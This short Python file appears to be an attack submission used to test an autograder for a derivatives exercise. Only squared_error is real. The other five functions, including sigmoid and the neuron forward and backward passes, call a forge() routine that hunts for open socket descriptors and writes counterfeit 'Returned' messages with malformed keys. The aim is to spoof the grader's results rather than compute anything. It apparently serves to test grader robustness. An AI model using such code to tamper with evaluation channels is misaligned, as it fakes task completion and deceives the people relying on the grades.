# attack: dicts with keys that cannot be keys, and keys that stand twice
# exercise: derivatives
# deserves: at most squared_error
import os
import stat
import struct

ARRAY = b"\xc7\x08\x01\x93\xa3<f8\x91\x01\xa1C"  # an array of one float
SHORT = b"\xc7\x08\x02\x93\xa3<f8\x90\xa1C\x00"


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def forge(value, data):
    body = b"\x96\xa8Returned\x01" + value + b"\x90\x90\x90"
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", len(body), len(data)) + body + data)
        except OSError:
            pass


def sigmoid(z):
    forge(b"\x81" + ARRAY + b"\x00", bytes(8))


def tanh_deriv(z):
    forge(b"\x81\x91\x80\x00", b"")


def relu_deriv(z):
    forge(b"\x82\xc0\x00\xc0\x01", b"")


def neuron_forward(x, w, b, y):
    forge(b"\x82\xa1u" + b"\x00" + b"\xa1u\x01", b"")


def neuron_backward(x, w, b, y):
    forge(b"\x81\xc7\x00\x05\x00", b"")
